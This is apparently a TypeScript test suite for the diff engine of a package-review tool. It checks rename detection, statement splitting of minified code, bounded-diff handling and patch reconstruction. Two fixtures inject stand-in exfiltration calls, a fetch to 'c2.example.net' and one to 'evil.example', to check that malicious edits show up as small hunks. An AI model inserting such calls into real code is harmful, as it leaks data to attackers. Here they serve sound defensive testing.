import assert from "node:assert/strict";
import { describe, it } from "node:test";
import fc from "fast-check";
import { withLimits } from "../../src/common/limits.js";
import { diffLinesBounded, diffPackages, statementCuts, toDisplayLines } from "../../src/review/diff.js";
import { makeSnapshot, readPackageFile } from "../../src/review/files.js";
import { review, snap } from "../helpers/fixtures.js";

const limits = withLimits();

/** A bundler chunk: many distinct statements, one per line. */
function chunk(n: number, extra = ""): string {
  const lines = Array.from({ length: n }, (_, i) => `var v${i} = compute(${i}, "item-${i}");`);
  lines.splice(n / 2, 0, extra);
  return `${lines.join("\n")}\n`;
}

describe("diffPackages", () => {
  it("pairs a renamed bundler chunk by content so a two-line change stays two lines", () => {
    const a = snap("1.0.0", { "dist/chunk-QW4I.js": chunk(400, "send(a);") });
    const b = snap("1.0.1", { "dist/chunk-4PNJ.js": chunk(400, 'send(a, "x");\nlog(a);') });
    const d = diffPackages(a, b, limits);
    assert.equal(d.files.length, 2); // package.json + the chunk
    const c = d.files.find((f) => f.path === "dist/chunk-4PNJ.js")!;
    assert.equal(c.status, "renamed");
    assert.equal(c.oldPath, "dist/chunk-QW4I.js");
    assert.ok(c.similarity! > 0.9);
    assert.deepEqual([c.added, c.removed], [2, 1]);
    const plus = c.hunks.flatMap((h) => h.lines).filter((l) => l.op === "+");
    assert.deepEqual(
      plus.map((l) => [l.text, l.newLine]),
      [
        ['send(a, "x");', 201],
        ["log(a);", 202],
      ],
    );
  });

  it("keeps identical content under a new name as a pure rename", () => {
    const d = diffPackages(snap("1", { "a.js": chunk(10) }), snap("2", { "b.js": chunk(10) }), limits);
    const c = d.files.find((f) => f.path === "b.js")!;
    assert.deepEqual([c.status, c.similarity, c.hunks.length], ["renamed", 1, 0]);
  });

  it("does not pair unrelated files: one removed, one added", () => {
    const d = diffPackages(
      snap("1", { "old.js": chunk(50) }),
      snap("2", { "new.js": "totally(different);\n" }),
      limits,
    );
    assert.deepEqual(
      d.files.filter((f) => f.path !== "package.json").map((f) => [f.path, f.status]),
      [
        ["new.js", "added"],
        ["old.js", "removed"],
      ],
    );
  });

  it("splits a long minified line at statements, so the hunk is the changed statement", () => {
    const stmts = Array.from({ length: 60 }, (_, i) => `function f${i}(x){return x+${i}}`);
    const a = stmts.join(";");
    const b = stmts
      .map((s, i) => (i === 30 ? 'function f30(x){fetch("https://c2.example.net/"+x);return x+30}' : s))
      .join(";");
    const d = diffPackages(snap("1", { "m.js": a }), snap("2", { "m.js": b }), limits);
    const c = d.files.find((f) => f.path === "m.js")!;
    const added = c.hunks.flatMap((h) => h.lines).filter((l) => l.op === "+");
    assert.ok(added.length <= 3, `expected a few short lines, got ${added.length}`);
    assert.ok(added.every((l) => l.text.length < 80 && l.newLine === 1));
    assert.ok(added.some((l) => l.text.includes('fetch("https://c2.example.net/"+x)')));
  });

  it("turns a bounded-out diff into an unreviewable finding, with the region shown whole", () => {
    const a = snap("1", { "x.js": Array.from({ length: 300 }, (_, i) => `a${i % 7};`).join("\n") });
    const b = snap("2", { "x.js": Array.from({ length: 300 }, (_, i) => `b${i % 5};`).join("\n") });
    const tight = withLimits({ diffMaxEditLength: 10 });
    const r = review(a, b, { limits: tight });
    const c = r.diff.files.find((f) => f.path === "x.js")!;
    assert.match(c.unreviewable!, /exceeded its bounds/);
    assert.deepEqual([c.added, c.removed], [300, 300]);
    assert.ok(r.findings.some((f) => f.rule === "unreviewable" && f.file === "x.js"));
  });

  it("reports binary changes and files over the text cap without diffing them", () => {
    const small = withLimits({ maxTextFileBytes: 100 });
    const mk = (v: string, big: string, bin: number) => {
      const map = new Map();
      map.set(
        "package.json",
        readPackageFile("package.json", Buffer.from(JSON.stringify({ name: "p", version: v })), 0o644, small),
      );
      map.set("big.js", readPackageFile("big.js", Buffer.from(big.repeat(200)), 0o644, small));
      map.set("img.png", readPackageFile("img.png", Buffer.from([0x89, 0x50, 0, 0, bin]), 0o644, small));
      return makeSnapshot("t", map, []);
    };
    const d = diffPackages(mk("1", "a", 1), mk("2", "b", 2), small);
    assert.deepEqual(
      d.files.map((f) => [f.path, f.status]),
      [
        ["big.js", "too-large"],
        ["img.png", "binary"],
        ["package.json", "modified"],
      ],
    );
    assert.deepEqual(
      d.notes.map((n) => [n.file, n.blocking]),
      // A code file over the cap was not read: the analysis is incomplete (it was "complete" before).
      [["big.js", true]],
    );
  });
});

describe("statementCuts / toDisplayLines", () => {
  it("cuts after ; { } but not inside strings, comments or regular expressions", () => {
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the input is minified source holding a template literal
    const src = 'a=";{}";b=/[;}]/g;c=`x;${1}`;/* ; */d()';
    const cuts = statementCuts(src);
    const parts = [0, ...cuts, src.length]
      .slice(1)
      .map((end, i, all) => src.slice(i === 0 ? 0 : all[i - 1], end));
    // biome-ignore lint/suspicious/noTemplateCurlyInString: expected pieces of that source
    assert.deepEqual(parts, ['a=";{}";', "b=/[;}]/g;", "c=`x;${1}`;", "/* ; */d()"]);
  });

  it("leaves ordinary lines alone and maps split lines to their original line", () => {
    const long = `x();${"y();".repeat(200)}`;
    const d = toDisplayLines(`short\n${long}\nend`, 100);
    assert.equal(d.texts[0], "short");
    assert.equal(d.texts.at(-1), "end");
    assert.ok(d.texts.length > 10);
    assert.deepEqual([...new Set(d.lines)], [1, 2, 3]);
    assert.equal(d.texts.slice(1, -1).join(""), long);
  });
});

describe("diffLinesBounded (patience alignment, generated)", () => {
  /** Applies the hunks to `a` as a patch: what a reader of the review would rebuild. */
  function apply(
    a: string[],
    hunks: { lines: { op: string; text: string; oldLine?: number }[] }[],
  ): string[] {
    const out: string[] = [];
    let pos = 1;
    for (const h of hunks) {
      const first = h.lines.find((l) => l.oldLine !== undefined)?.oldLine ?? pos;
      while (pos < first) out.push(a[pos++ - 1]!);
      for (const l of h.lines) {
        if (l.op === " ") {
          assert.equal(l.text, a[pos - 1], "context line is the old line");
          out.push(l.text);
          pos++;
        } else if (l.op === "-") {
          assert.equal(l.text, a[pos - 1], "removed line is the old line");
          pos++;
        } else out.push(l.text);
      }
    }
    while (pos <= a.length) out.push(a[pos++ - 1]!);
    return out;
  }
  const lines = (xs: string[]) => ({ texts: xs, lines: xs.map((_, i) => i + 1) });
  // Few distinct lines (many repeats, as in a bundle) and some unique ones, hundreds long so gaps recurse.
  const line = fc.oneof(
    fc.constantFrom("}", "return x;", "});", "break;", "let a = 1;"),
    fc.integer({ min: 0, max: 400 }).map((n) => `f${n}();`),
  );
  const edits = fc.array(fc.tuple(fc.nat(), fc.nat(6), fc.array(line, { maxLength: 8 })), { maxLength: 12 });

  it("the hunks rebuild the new side exactly from the old, for any pair", () => {
    fc.assert(
      fc.property(fc.array(line, { minLength: 0, maxLength: 700 }), edits, (a, ops) => {
        const b = [...a];
        for (const [at, del, ins] of ops) b.splice(at % (b.length + 1), del, ...ins);
        const { hunks, bounded } = diffLinesBounded(lines(a), lines(b), withLimits({}));
        assert.equal(bounded, 0);
        assert.deepEqual(apply(a, hunks), b);
      }),
      { numRuns: 300, seed: 21 },
    );
  });

  it("an edit far from others stays a small hunk in a long file of repeated lines", () => {
    const a = Array.from({ length: 3000 }, (_, i) => (i % 50 === 0 ? `unique${i}();` : "}"));
    const b = [...a];
    b.splice(1500, 0, 'fetch("https://evil.example/x");');
    const { hunks } = diffLinesBounded(lines(a), lines(b), withLimits({}));
    const changed = hunks.flatMap((h) => h.lines.filter((l) => l.op !== " "));
    assert.deepEqual(changed, [{ op: "+", text: 'fetch("https://evil.example/x");', newLine: 1501 }]);
  });
});
